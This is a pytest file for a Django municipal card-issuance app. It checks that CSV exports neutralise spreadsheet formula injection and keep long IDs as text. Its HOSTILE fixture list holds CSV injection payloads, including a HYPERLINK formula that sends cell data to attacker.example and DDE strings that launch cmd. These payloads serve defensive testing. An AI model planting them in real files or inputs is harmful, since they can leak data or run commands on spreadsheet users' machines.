"""Every CSV madoguchi writes opens safely in a spreadsheet: no cell starts with a formula
character unless an apostrophe in front makes it text (OWASP "CSV Injection"). Checked on the
helper with generated text and on each export, read back with the csv module as a spreadsheet
would read the file."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from django.core.management import call_command
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from madoguchi.core.csvsafe import FORMULA_LEADS, as_written, safe_frame, safe_writer
from madoguchi.issuance.models import CardStatus, NoticeBatch
from tests.conftest import login_staff
from tests.issuance import factories as cards

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"詳細")',
    "+81 3 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


SPREADSHEET_DIGITS = 15
"""Significant digits a spreadsheet keeps of a number (IEEE double, as Excel and LibreOffice)."""


def assert_no_formula_cells(text: str) -> list[list[str]]:
    """Parse `text` as a spreadsheet would and check every cell — no formula, and no number of
    more digits than the spreadsheet keeps (it would show and save 9.99997E+22 for a 23-digit
    application ID); returns the rows."""
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_LEADS), (cell, row)
            assert not (cell.isascii() and cell.isdigit() and len(cell) > SPREADSHEET_DIGITS), (
                cell,
                row,
            )
    return rows


@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=5), max_size=5))
def test_no_cell_written_by_the_helper_starts_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        out = io.StringIO()
        safe_writer(out).writerow(row)
        [written] = assert_no_formula_cells(out.getvalue())
        assert len(written) == len(row)
        for cell, before in zip(written, row, strict=True):
            assert cell in (before, "'" + before)


def test_a_neutralised_cell_keeps_its_text_after_the_apostrophe() -> None:
    out = io.StringIO()
    safe_writer(out).writerow([*HOSTILE, "ふつうの住所", 42, -1])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert row[len(HOSTILE) :] == ["ふつうの住所", "42", "-1"]  # numbers stay numbers


def test_an_identifier_of_more_digits_than_a_spreadsheet_keeps_is_written_as_text() -> None:
    """A card's 23-digit application ID as text gets the apostrophe (a spreadsheet would make it
    9.99997E+22 and save it so); 15 digits and numbers stay as they are; reading the file back
    (`as_written`, the report import's reading) gives the text as it was."""
    application_id = "99999700000000000000308"
    out = io.StringIO()
    safe_writer(out).writerow([application_id, "123456789012345", 10**22, "0123"])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["'" + application_id, "123456789012345", str(10**22), "0123"]
    assert [as_written(cell) for cell in row[:2]] == [application_id, "123456789012345"]
    assert as_written("'=1+1") == "=1+1" and as_written("'abc") == "'abc"
    frame = safe_frame(pl.DataFrame({"person_id": [application_id, "42"]}))
    assert frame["person_id"].to_list() == ["'" + application_id, "42"]


def test_negative_control_a_plain_csv_writer_would_write_the_formulas() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(HOSTILE)
    with pytest.raises(AssertionError):
        assert_no_formula_cells(out.getvalue())


def _hostile_batch(owner: Any) -> NoticeBatch:
    from madoguchi.core import clock

    batch = NoticeBatch.objects.create(
        municipality=owner, created_at=clock.now(), created_by="test", cards=len(HOSTILE)
    )
    for value in HOSTILE:
        cards.card(
            owner,
            status=CardStatus.NOTICE_ISSUED,
            notice_batch=batch,
            family_name=value,
            given_name=value,
            family_name_kana=value,
            given_name_kana=value,
            address=value,
            postal_code=value[:8],
        )
    return batch


def test_the_mailing_csv_download_neutralises_formula_cells(personas: Any) -> None:
    batch = _hostile_batch(personas.home)
    client = Client()
    login_staff(client, personas.users["manager"])
    response = client.get(f"/staff/issuance/notices/{batch.pk}/mailing.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = assert_no_formula_cells(response.content.decode("utf-8"))
    addresses = {row[3] for row in rows[1:]}
    assert addresses == {"'" + value for value in HOSTILE}
    written = {row[6] for row in rows[1:]}  # the application IDs, whole
    assert written == {"'" + card.application_id for card in batch.card_records.all()}


@pytest.mark.django_db
def test_the_notices_command_csv_neutralises_formula_cells(tmp_path: Path, frozen: Any) -> None:
    from tests.issuance.test_notices import slots

    owner = cards.municipality()
    slots(owner, seats=len(HOSTILE))
    for value in HOSTILE:
        cards.card(owner, status=CardStatus.SETUP_DONE, address=value, family_name=value)
    call_command("notices", "--out", str(tmp_path / "n.pdf"), stdout=io.StringIO())
    rows = assert_no_formula_cells((tmp_path / "n.csv").read_bytes().decode("utf-8-sig"))
    assert len(rows) == 1 + len(HOSTILE)


def test_the_expiry_command_output_neutralises_formula_cells(tmp_path: Path) -> None:
    register = tmp_path / "register.csv"
    with register.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["person_id", "birth_date", "card_issued_on", "cert_issued_on", "area"])
        for n, value in enumerate(HOSTILE):
            writer.writerow([value, "1980-01-01", "2020-01-0" + str(n + 1), "", value])
    out = tmp_path / "out.csv"
    call_command("expiry", "--register", str(register), "--out", str(out), stdout=io.StringIO())
    rows = assert_no_formula_cells(out.read_bytes().decode("utf-8"))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert rows[1][rows[0].index("card_expires_on")]  # the added columns are still written


def test_the_forecast_command_output_has_no_formula_cells(tmp_path: Path) -> None:
    register = tmp_path / "register.csv"
    register.write_text(
        "person_id,birth_date,card_issued_on,cert_issued_on\n"
        "=1+1,1980-01-01,2018-02-01,2018-02-01\n",
        encoding="utf-8",
    )
    out = tmp_path / "forecast.csv"
    call_command(
        "forecast",
        "--register",
        str(register),
        "--start",
        "2026-06",  # a fixed month: the output's shape never depends on the day it runs
        "--months",
        "3",
        "--out",
        str(out),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    rows = assert_no_formula_cells(out.read_text(encoding="utf-8"))
    assert rows[0][:3] == ["period", "card_renewals", "cert_renewals"]
    assert len(rows) == 4
